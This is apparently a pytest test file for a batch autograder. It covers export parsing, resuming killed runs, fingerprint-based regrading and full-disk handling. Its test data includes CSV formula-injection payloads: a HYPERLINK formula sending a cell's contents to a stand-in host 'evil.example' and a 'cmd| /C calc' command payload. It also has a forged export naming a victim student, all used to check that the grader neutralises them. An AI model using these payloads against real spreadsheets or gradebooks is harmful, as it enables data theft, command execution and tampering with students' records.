"""Batch grading: exports keep their submitters, finished work is kept, a killed run resumes.

Finished work is kept only while it is still right: a changed submission, a changed rubric or
a results.json without a fingerprint is graded again. Discovery takes only folders and zips.
"""

from __future__ import annotations

import csv
import errno
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import ROOT, RUBRIC, SAMPLES, assert_valid_results

import grader.batch
from grader.batch import FINGERPRINT, discover, run_batch
from grader.cli import main
from grader.engine import GradeOptions
from grader.errors import GraderError
from grader.rubric import Rubric, load_rubric
from grader.sandbox import available_layers

WRITTEN_ONLY = ["answer_key", "expression_injection", "yaml_python_tags"]
EXPORT_YAML = """\
submission_101:
  :submitters:
  - :name: Doe, Jane
    :sid: '20231234'
    :email: jdoe@uni.example.edu
  - :name: Li Wei
    :sid: ''
    :email: lwei@uni.example.edu
  :created_at: 2023-12-02 02:52:07.938335000 Z
  :score: 0.0
  :status: processed
submission_102:
  :submitters:
  - :name: O'Brien, "Pat"
    :sid: 20230002
    :email: pat@uni.example.edu
  :created_at: 2023-12-02 03:10:00.000000000 Z
  :score: 0.0
"""


def _export_zip(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("assignment_77_export/submission_metadata.yml", EXPORT_YAML)
        for sub_id, sample in (("101", "reference"), ("102", "answer_key")):
            data = (SAMPLES / sample / "hw1_written.yaml").read_bytes()
            archive.writestr(f"assignment_77_export/submission_{sub_id}/hw1_written.yaml", data)
    return path


def test_export_zip_keeps_submitters_in_gradebook(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Group members and names with commas or quotes reach gradebook.csv; summary.html too."""
    out = tmp_path / "out"
    main(
        [
            "grade",
            str(_export_zip(tmp_path / "assignment_77_export.zip")),
            "--out",
            str(out),
            "--rubric",
            str(RUBRIC),
        ]
    )
    capsys.readouterr()
    with (out / "gradebook.csv").open(encoding="utf-8", newline="") as stream:
        rows = {row["submission"]: row for row in csv.DictReader(stream)}
    assert rows["submission_101"]["names"] == "Doe, Jane; Li Wei"
    assert rows["submission_101"]["emails"] == "jdoe@uni.example.edu; lwei@uni.example.edu"
    assert rows["submission_101"]["sids"] == "20231234; "
    assert rows["submission_102"]["names"] == 'O\'Brien, "Pat"'
    assert float(rows["submission_101"]["q1_1"]) == 10
    results = assert_valid_results(out / "submission_101" / "results.json")
    assert [s["name"] for s in results["extra_data"]["submitters"]] == ["Doe, Jane", "Li Wei"]
    assert "Doe, Jane" in (out / "summary.html").read_text(encoding="utf-8")


def test_rerun_regrades_only_missing_results(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rubric: Rubric
) -> None:
    """Delete one results.json and run again: only that submission is graded again."""
    graded: list[str] = []
    real_grade_one = grader.batch.grade_one

    def counting(source: Any, *args: Any) -> Any:
        graded.append(source.name)
        return real_grade_one(source, *args)

    monkeypatch.setattr(grader.batch, "grade_one", counting)
    sources = discover([SAMPLES / name for name in WRITTEN_ONLY], dict(rubric.files), tmp_path)
    out = tmp_path / "out"
    first = run_batch(sources, rubric, out, GradeOptions())
    assert sorted(graded) == sorted(WRITTEN_ONLY)
    before = {name: (out / name / "results.json").stat().st_mtime_ns for name in WRITTEN_ONLY}
    (out / WRITTEN_ONLY[1] / "results.json").unlink()
    graded.clear()
    second = run_batch(sources, rubric, out, GradeOptions())
    assert graded == [WRITTEN_ONLY[1]]
    for name in (WRITTEN_ONLY[0], WRITTEN_ONLY[2]):
        assert (out / name / "results.json").stat().st_mtime_ns == before[name]
    assert [row.total for row in second] == [row.total for row in first]


def test_killed_run_resumes_to_complete_results(tmp_path: Path, rubric: Rubric) -> None:
    """Kill `grader grade` after its first results.json; a rerun finishes every submission."""
    names = [*WRITTEN_ONLY, "template", "malformed_yaml", "reference"]
    out = tmp_path / "out"
    command = [
        sys.executable,
        "-m",
        "grader",
        "grade",
        *(str(SAMPLES / n) for n in names),
        "--out",
        str(out),
        "--jobs",
        "1",
        "--rubric",
        str(RUBRIC),
    ]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    process = subprocess.Popen(
        command,
        cwd=ROOT,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        deadline = time.monotonic() + 60
        while (
            not list(out.glob("*/results.json"))
            and time.monotonic() < deadline
            and process.poll() is None
        ):
            time.sleep(0.01)
    finally:
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGKILL)  # the group this test started, children included
        process.wait()
    finished = len(list(out.glob("*/results.json")))
    assert 1 <= finished < len(names), "the first run should be killed part-way"
    rerun = subprocess.run(
        command, cwd=ROOT, env=env, capture_output=True, text=True, timeout=120, check=False
    )
    assert rerun.returncode in (0, 1), rerun.stderr  # 1: some sample differs from its expected.json
    for name in names:
        assert_valid_results(out / name / "results.json", rubric)
    with (out / "gradebook.csv").open(encoding="utf-8", newline="") as stream:
        assert [row["submission"] for row in csv.DictReader(stream)] == names


def _count_grading(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The names of the submissions `grade_one` is called for, from now on."""
    graded: list[str] = []
    real_grade_one = grader.batch.grade_one

    def counting(source: Any, *args: Any) -> Any:
        graded.append(source.name)
        return real_grade_one(source, *args)

    monkeypatch.setattr(grader.batch, "grade_one", counting)
    return graded


def _copy_samples(folder: Path, names: list[str]) -> Path:
    """A folder of submissions: copies of the named samples, free to be changed by a test."""
    for name in names:
        shutil.copytree(SAMPLES / name, folder / name)
    return folder


def _rubric_with_q1_1_points(folder: Path, points: int) -> Path:
    """A copy of the bundled rubric in which item q1_1 (and its part and the total) is worth `points`."""
    text = RUBRIC.read_text(encoding="utf-8")
    text = text.replace("  q1_1: 10\n", f"  q1_1: {points}\n", 1)
    text = text.replace("total_points: 140", f"total_points: {130 + points}", 1)
    text = text.replace('title: "1.1 hard-coded network, k = 2"\n    points: 10',
                        f'title: "1.1 hard-coded network, k = 2"\n    points: {points}', 1)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "hw1.yaml").write_text(text, encoding="utf-8")
    return folder / "hw1.yaml"


def test_changed_submission_is_regraded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rubric: Rubric) -> None:
    """A student's file changed since the last run: that submission gets its new score."""
    subs = _copy_samples(tmp_path / "subs", WRITTEN_ONLY)
    sources = discover([subs], dict(rubric.files), tmp_path)
    out = tmp_path / "out"
    first = {row.name: row.total for row in run_batch(sources, rubric, out, GradeOptions())}
    graded = _count_grading(monkeypatch)
    shutil.copy(SAMPLES / "reference" / "hw1_written.yaml", subs / "answer_key" / "hw1_written.yaml")
    second = {row.name: row.total for row in run_batch(sources, rubric, out, GradeOptions())}
    assert graded == ["answer_key"]
    assert second["answer_key"] > first["answer_key"]
    document = assert_valid_results(out / "answer_key" / "results.json", rubric)
    assert document["extra_data"][FINGERPRINT].startswith("sha256:")


def test_changed_rubric_regrades_everything(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rubric: Rubric) -> None:
    """The rubric changed since the last run: no old result (with its old max_score) is kept."""
    sources = discover([SAMPLES / name for name in WRITTEN_ONLY], dict(rubric.files), tmp_path)
    out = tmp_path / "out"
    run_batch(sources, rubric, out, GradeOptions())
    changed = load_rubric(_rubric_with_q1_1_points(tmp_path / "rubrics", 12))
    graded = _count_grading(monkeypatch)
    run_batch(sources, changed, out, GradeOptions())
    assert sorted(graded) == sorted(WRITTEN_ONLY)
    document = assert_valid_results(out / "answer_key" / "results.json", changed)
    assert {t["extra_data"]["item"]: t["max_score"] for t in document["tests"]}["q1_1"] == 12


def test_changed_code_or_references_or_layer_change_the_grading_key(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rubric: Rubric
) -> None:
    """A fixed reference or check changes grades without a new version: results are not reused."""
    import grader.batch as batch

    package = tmp_path / "reference_solutions"
    package.mkdir()
    (package / "written.py").write_text("HESSIAN_V = (4, 2, 5)\n", encoding="utf-8")
    monkeypatch.setattr(batch, "_code_packages", lambda rubric: [package])
    options = GradeOptions(isolation="rlimits", salt="s")
    before = batch.grading_key(rubric, options)
    (package / "written.py").write_text("HESSIAN_V = (4, 2, 6)\n", encoding="utf-8")
    assert batch.grading_key(rubric, options) != before
    assert batch.grading_key(rubric, options) == batch.grading_key(rubric, options)
    if "uid" in available_layers() or "namespaces" in available_layers():
        stronger = next(layer for layer in ("namespaces", "uid") if layer in available_layers())
        isolated = GradeOptions(isolation=stronger, salt="s")
        assert batch.grading_key(rubric, isolated) != batch.grading_key(rubric, options)


def test_the_grading_key_covers_the_grader_and_the_references(rubric: Rubric) -> None:
    import grader.batch as batch

    names = {folder.name for folder in batch._code_packages(rubric)}
    assert names == {"grader", "reference_solutions"}


def test_results_without_fingerprint_are_regraded(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rubric: Rubric
) -> None:
    """A results.json of an older grader (no fingerprint) or a damaged one is not trusted."""
    sources = discover([SAMPLES / name for name in WRITTEN_ONLY], dict(rubric.files), tmp_path)
    out = tmp_path / "out"
    run_batch(sources, rubric, out, GradeOptions())
    old = out / WRITTEN_ONLY[0] / "results.json"
    document = json.loads(old.read_text(encoding="utf-8"))
    del document["extra_data"][FINGERPRINT]
    old.write_text(json.dumps(document), encoding="utf-8")
    (out / WRITTEN_ONLY[1] / "results.json").write_text("[1, 2", encoding="utf-8")
    graded = _count_grading(monkeypatch)
    notices: list[str] = []
    run_batch(sources, rubric, out, GradeOptions(), notice=notices.append)
    assert sorted(graded) == sorted(WRITTEN_ONLY[:2])
    # (A weaker isolation layer than the strongest adds its warning first: not this test's concern.)
    notices[:] = [n for n in notices if not n.startswith("warning: isolation layer")]
    assert notices == ["1 of 3 already graded and unchanged, skipped (use --force to regrade)"]
    graded.clear()
    notices.clear()
    run_batch(sources, rubric, out, GradeOptions(), force=True, notice=notices.append)
    notices[:] = [n for n in notices if not n.startswith("warning: isolation layer")]
    assert sorted(graded) == sorted(WRITTEN_ONLY) and notices == []


def test_output_folder_is_not_discovered(tmp_path: Path, rubric: Rubric) -> None:
    """`grader grade .` with the default --out: the results folder never becomes a submission."""
    subs = _copy_samples(tmp_path / "subs", WRITTEN_ONLY[:2])
    (subs / "out" / "answer_key").mkdir(parents=True)
    (subs / "out" / "gradebook.csv").write_text("submission\n", encoding="utf-8")
    sources = discover([subs], dict(rubric.files), tmp_path, out_dir=subs / "out")
    assert [s.name for s in sources] == WRITTEN_ONLY[:2]
    with pytest.raises(GraderError, match="output folder"):
        discover([subs / "out"], dict(rubric.files), tmp_path, out_dir=subs / "out")


def test_a_file_that_is_not_a_zip_is_refused(tmp_path: Path, rubric: Rubric) -> None:
    """Only folders, zips and exports are inputs; a stray file is an error, not a submission."""
    with pytest.raises(GraderError, match=r"not a folder, a \.zip file or a Gradescope export"):
        discover([ROOT / "README.md"], dict(rubric.files), tmp_path)


def test_an_empty_folder_is_refused(tmp_path: Path, rubric: Rubric) -> None:
    """A folder with nothing in it (hidden files aside) holds no submissions."""
    (tmp_path / "empty").mkdir()
    (tmp_path / "empty" / ".DS_Store").write_bytes(b"\0")
    with pytest.raises(GraderError, match="no submissions found in"):
        discover([tmp_path / "empty"], dict(rubric.files), tmp_path)


def test_a_folder_of_other_files_is_graded_with_a_warning(tmp_path: Path, rubric: Rubric) -> None:
    """Files but none the rubric wants and no submissions: one empty submission, said so."""
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "todo.txt").write_text("grade hw1\n", encoding="utf-8")
    notices: list[str] = []
    sources = discover([tmp_path / "notes"], dict(rubric.files), tmp_path, notice=notices.append)
    assert [s.name for s in sources] == ["notes"]
    assert len(notices) == 1 and "graded as one empty submission" in notices[0]


def test_a_damaged_zip_in_a_folder_is_still_a_submission(tmp_path: Path, rubric: Rubric) -> None:
    """A student's broken .zip is graded (0, with a message), not silently left out."""
    subs = _copy_samples(tmp_path / "subs", WRITTEN_ONLY[:1])
    (subs / "bob.zip").write_bytes(b"not a zip at all")
    sources = discover([subs], dict(rubric.files), tmp_path)
    assert sorted(s.name for s in sources) == sorted([WRITTEN_ONLY[0], "bob"])


# ---------------------------------------------------------------- exports are the instructor's, never a student's

MALLORY_YAML = """\
submission_999:
  :submitters:
  - :name: Victim, Vera
    :sid: '20230001'
    :email: vera@uni.example.edu
  :created_at: 2023-12-02 02:52:07.938335000 Z
"""


def _gradebook(out: Path) -> dict[str, dict[str, str]]:
    with (out / "gradebook.csv").open(encoding="utf-8", newline="") as stream:
        return {row["submission"]: row for row in csv.DictReader(stream)}


def _export_like_zip(path: Path, top: str = "assignment_1_export/") -> Path:
    """A student's zip laid out as an export: the YAML and a submission_<id>/ naming a victim."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("submission_metadata.yml", MALLORY_YAML)
        archive.writestr(f"{top}submission_metadata.yml", MALLORY_YAML)
        archive.writestr(f"{top}submission_999/hw1_written.yaml", "q1_1: 0\n")
        archive.writestr("hw1_written.yaml", (SAMPLES / "answer_key" / "hw1_written.yaml").read_bytes())
    return path


def test_a_students_folder_holding_the_export_yaml_is_one_submission(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A folder batch with a student's copy of submission_metadata.yml: everybody is graded (was exit 2)."""
    subs = _copy_samples(tmp_path / "subs", WRITTEN_ONLY[:2])
    (subs / WRITTEN_ONLY[0] / "submission_metadata.yml").write_text(MALLORY_YAML, encoding="utf-8")
    (subs / WRITTEN_ONLY[0] / "submission_999").mkdir()
    out = tmp_path / "out"
    code = main(["grade", str(subs), "--out", str(out), "--rubric", str(RUBRIC)])
    capsys.readouterr()
    assert code in (0, 1)
    assert list(_gradebook(out)) == WRITTEN_ONLY[:2]


@pytest.mark.parametrize("how", ["named", "in_a_folder"])
def test_a_students_zip_laid_out_as_an_export_is_one_submission(
    how: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`grader grade subs/*.zip`: a zip holding the YAML and submission_<id>/ injects no rows."""
    subs = tmp_path / "subs"
    subs.mkdir()
    _export_like_zip(subs / "mallory.zip")
    shutil.make_archive(str(subs / "bob"), "zip", SAMPLES / WRITTEN_ONLY[1])
    out = tmp_path / "out"
    inputs = [str(subs / "mallory.zip"), str(subs / "bob.zip")] if how == "named" else [str(subs)]
    code = main(["grade", *inputs, "--out", str(out), "--rubric", str(RUBRIC)])
    err = capsys.readouterr().err
    assert code in (0, 1)
    rows = _gradebook(out)
    assert sorted(rows) == ["bob", "mallory"]
    assert not any("20230001" in row["sids"] or "Victim" in row["names"] for row in rows.values())
    assert float(rows["mallory"]["q1_2_graph"]) == 5  # its own answers were graded, as a submission
    if how == "named":
        assert "not named like a Gradescope export" in err and "--export" in err


def test_a_renamed_export_is_read_with_export(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Gradescope's download saved under another name: one submission, unless --export says otherwise."""
    renamed = _export_zip(tmp_path / "hw1 submissions.zip")
    out = tmp_path / "out"
    main(["grade", str(renamed), "--out", str(out), "--rubric", str(RUBRIC)])
    assert "pass --export" in capsys.readouterr().err
    assert list(_gradebook(out)) == ["hw1_submissions"]
    main(["grade", str(renamed), "--out", str(tmp_path / "out2"), "--rubric", str(RUBRIC), "--export"])
    assert "read as a Gradescope export of 2 submissions" in capsys.readouterr().err
    assert list(_gradebook(tmp_path / "out2")) == ["submission_101", "submission_102"]


def test_an_unpacked_export_folder_is_still_found(tmp_path: Path, rubric: Rubric) -> None:
    """`unzip assignment_77_export.zip` then `grader grade assignment_77_export`: an export."""
    with zipfile.ZipFile(_export_zip(tmp_path / "assignment_77_export.zip")) as archive:
        archive.extractall(tmp_path / "unpacked")
    for folder in (tmp_path / "unpacked" / "assignment_77_export", tmp_path / "unpacked"):
        if folder.name == "unpacked":
            folder = folder.rename(tmp_path / "assignment_77_export (1)")
        sources = discover([folder], dict(rubric.files), tmp_path / "w")
        assert [s.name for s in sources] == ["submission_101", "submission_102"], folder
    with pytest.raises(GraderError, match="no Gradescope export found"):
        discover([SAMPLES / "answer_key"], dict(rubric.files), tmp_path / "w", export=True)


# ---------------------------------------------------------------- gradebook.csv is inert in a spreadsheet

HOSTILE_YAML = """\
submission_201:
  :submitters:
  - :name: '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
    :sid: '-2+3'
    :email: '@SUM(1+1)*cmd|'' /C calc''!A0'
  - :name: "\\t=1+1"
    :sid: "\\r=2"
    :email: '+1@uni.example.edu'
  :created_at: 2023-12-02 02:52:07.938335000 Z
submission_202:
  :submitters:
  - :name: '  =1+1'
    :sid: '20230002'
    :email: ok@uni.example.edu
"""


def test_gradebook_cells_never_start_a_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Names, emails and ids a student chose start with a quote if a spreadsheet would run them.

    Read back with the csv module: each such cell is the original text behind one "'", the
    others are unchanged and the scores are still plain numbers. summary.html escapes them.
    """
    export = tmp_path / "assignment_5_export.zip"
    with zipfile.ZipFile(export, "w") as archive:
        archive.writestr("assignment_5_export/submission_metadata.yml", HOSTILE_YAML)
        for sub_id in ("201", "202"):
            archive.writestr(f"assignment_5_export/submission_{sub_id}/hw1_written.yaml",
                             (SAMPLES / "reference" / "hw1_written.yaml").read_bytes())
    out = tmp_path / "out"
    main(["grade", str(export), "--out", str(out), "--rubric", str(RUBRIC)])
    capsys.readouterr()
    with (out / "gradebook.csv").open(encoding="utf-8", newline="") as stream:
        header, *rows = list(csv.reader(stream))
    texts = {"submission", "names", "emails", "sids", "status"}
    expected = {
        "submission_201": {
            "names": '\'=HYPERLINK("http://evil.example/?x="&A1,"Click me"); \t=1+1',
            "emails": "'@SUM(1+1)*cmd|' /C calc'!A0; +1@uni.example.edu",
            "sids": "'-2+3; \r=2",
        },
        "submission_202": {"names": "'  =1+1", "emails": "ok@uni.example.edu", "sids": "20230002"},
    }
    for row in rows:
        cells = dict(zip(header, row, strict=True))
        for column, value in cells.items():
            if column in texts:
                assert not value.lstrip().startswith(("=", "+", "-", "@")), (column, value)
                assert not value.startswith(("\t", "\r")), (column, value)
            elif value:
                float(value)  # a number, never quoted
        for column, value in expected[cells["submission"]].items():
            assert cells[column] == value, (column, cells[column])
    page = (out / "summary.html").read_text(encoding="utf-8")
    assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Click me&quot;)" in page
    assert 'HYPERLINK("' not in page


# ---------------------------------------------------------------- a full disk costs no student a grade

def _no_space(*args: Any, **kwargs: Any) -> None:
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def test_a_full_disk_leaves_failures_a_rerun_grades(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """ENOSPC for some submissions: the batch finishes, says who was not graded, exits 1; a re-run resumes.

    reference's sandbox cannot start (the engine scores its notebook items 0 as internal errors:
    that 60 is no grade), answer_key's results.json cannot be written, expression_injection's
    temporary folder cannot be made, and gradebook.csv cannot be written. The others are graded.
    """
    import grader.engine

    names = ["reference", *WRITTEN_ONLY]
    subs, out = _copy_samples(tmp_path / "subs", names), tmp_path / "out"
    real_start, real_write = grader.engine.start_session, grader.batch.write_json_atomic
    real_open, real_gradebook = grader.batch.open_submission, grader.batch.write_gradebook
    full = [True]

    def start_session(*args: Any, **kwargs: Any) -> Any:
        if full[0] and kwargs["submission_dir"].name == "reference":
            _no_space()
        return real_start(*args, **kwargs)

    def write_json(path: Path, document: Any) -> None:
        if full[0] and path.parent.name == "answer_key":
            _no_space()
        real_write(path, document)

    def open_submission(path: Path, *args: Any, **kwargs: Any) -> Any:
        if full[0] and path.name == "expression_injection":
            _no_space()
        return real_open(path, *args, **kwargs)

    def write_gradebook(*args: Any) -> None:
        if full[0]:
            _no_space()
        real_gradebook(*args)

    monkeypatch.setattr(grader.engine, "start_session", start_session)
    monkeypatch.setattr(grader.batch, "write_json_atomic", write_json)
    monkeypatch.setattr(grader.batch, "open_submission", open_submission)
    monkeypatch.setattr(grader.batch, "write_gradebook", write_gradebook)

    # --jobs 1: graded in this process, where the patches apply (not in worker processes)
    assert main(["grade", str(subs), "--out", str(out), "--rubric", str(RUBRIC), "--jobs", "1"]) == 1
    captured = capsys.readouterr()
    failed = {"reference", "answer_key", "expression_injection"}
    assert "3 of 4 submissions could not be graded" in captured.err
    for name in failed:
        assert re.search(rf"^  {name}: .*No space left on device", captured.err, re.MULTILINE), captured.err
        assert re.search(rf"^{name} .* NOT GRADED$", captured.out, re.MULTILINE), captured.out
    assert f"could not write {out / 'gradebook.csv'}: No space left on device" in captured.err
    assert not (out / "gradebook.csv").exists() and not list(out.glob(".*.tmp"))
    page = (out / "summary.html").read_text(encoding="utf-8")
    assert "3 not graded" in page and "No space left on device" in page
    assert not (out / "answer_key" / "results.json").exists()
    for name in ("reference", "expression_injection"):  # written, but as a failure: no fingerprint
        document = assert_valid_results(out / name / "results.json")
        assert FINGERPRINT not in document["extra_data"]
        assert "No space left on device" in document["extra_data"]["grading_failed"]
    assert FINGERPRINT in assert_valid_results(out / "yaml_python_tags" / "results.json")["extra_data"]

    full[0] = False
    graded = _count_grading(monkeypatch)
    assert main(["grade", str(subs), "--out", str(out), "--rubric", str(RUBRIC)]) == 0
    captured = capsys.readouterr()
    assert sorted(graded) == sorted(failed)
    assert "1 of 4 already graded and unchanged" in captured.err and "could not" not in captured.err
    rows = _gradebook(out)
    assert {row["status"] for row in rows.values()} == {"graded"}
    assert float(rows["reference"]["total"]) == 135


def test_a_failed_grade_has_no_scores_in_the_gradebook(tmp_path: Path, rubric: Rubric) -> None:
    """Zeros that are not a grade would be uploaded as one: the row is empty but for why."""
    row = grader.batch.BatchRow("x", (), {"p1": 3.0}, {"p1_step": 3.0}, 60.0, 135.0,
                                failure="grader internal error on p1_step (OSError: [Errno 28] No space)")
    grader.batch.write_gradebook(tmp_path / "g.csv", [row], rubric)
    with (tmp_path / "g.csv").open(encoding="utf-8", newline="") as stream:
        (cells,) = list(csv.DictReader(stream))
    assert cells["total"] == "" and cells["p1"] == "" and cells["item:p1_step"] == "" and cells["max"] == "135"
    assert cells["status"].startswith("not graded, run again: grader internal error on p1_step")


@pytest.fixture
def tiny_disk(tmp_path: Path) -> Iterator[Path]:
    """A 4 MB tmpfs mounted for one test; skipped, with the reason, where mounting is not permitted."""
    if os.name != "posix" or os.geteuid() != 0:
        pytest.skip("mounting a tmpfs needs root")
    disk = tmp_path / "disk"
    disk.mkdir()
    try:
        run = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m,mode=0755", "tmpfs", str(disk)],
                             capture_output=True, text=True, timeout=30, check=False)
    except (OSError, subprocess.SubprocessError) as exc:
        pytest.skip(f"cannot run mount here: {exc}")
    if run.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {run.stderr.strip() or run.returncode}")
    try:
        yield disk
    finally:
        subprocess.run(["umount", "-l", str(disk)], capture_output=True, timeout=30, check=False)


def _fill(disk: Path, leave: int) -> Path:
    """Fill `disk` to the last byte, then free `leave` bytes; the file that fills it."""
    filler = disk / "filler"
    handle = os.open(filler, os.O_WRONLY | os.O_CREAT, 0o600)
    try:
        while True:
            os.write(handle, b"\0" * 65536)
    except OSError as exc:
        assert exc.errno == errno.ENOSPC, exc
    finally:
        os.close(handle)
    os.truncate(filler, max(filler.stat().st_size - leave, 0))
    return filler


def test_a_real_full_disk_costs_no_student_a_grade(
    tiny_disk: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Output and temporary folder on a full tmpfs: nobody gets a grade the disk made, a re-run finishes."""
    import tempfile

    names = ["reference", *WRITTEN_ONLY]
    subs, out, temp = _copy_samples(tmp_path / "subs", names), tiny_disk / "out", tiny_disk / "tmp"
    out.mkdir()
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    filler = _fill(tiny_disk, leave=24 * 1024)  # room for about two results.json, not for everything
    command = ["grade", str(subs), "--out", str(out), "--rubric", str(RUBRIC), "--jobs", "1"]
    assert main(command) == 1
    first = capsys.readouterr()
    not_graded = set(re.findall(r"^  (\S+): ", first.err, re.MULTILINE))
    assert not_graded, first.err
    for name in names:
        results = out / name / "results.json"
        if name in not_graded:
            assert not results.exists() or FINGERPRINT not in json.loads(results.read_text())["extra_data"]
            continue
        document = assert_valid_results(results)  # graded: final, and really graded
        assert FINGERPRINT in document["extra_data"], name
        assert not any("internal error" in test["output"] for test in document["tests"]), name
    assert not [p for p in out.rglob("*") if p.name.endswith(".tmp")]

    filler.unlink()
    graded = _count_grading(monkeypatch)
    assert main(command) == 0, capsys.readouterr().err
    capsys.readouterr()
    assert sorted(graded) == sorted(not_graded)
    rows = _gradebook(out)
    assert {row["status"] for row in rows.values()} == {"graded"}
    assert float(rows["reference"]["total"]) == 135
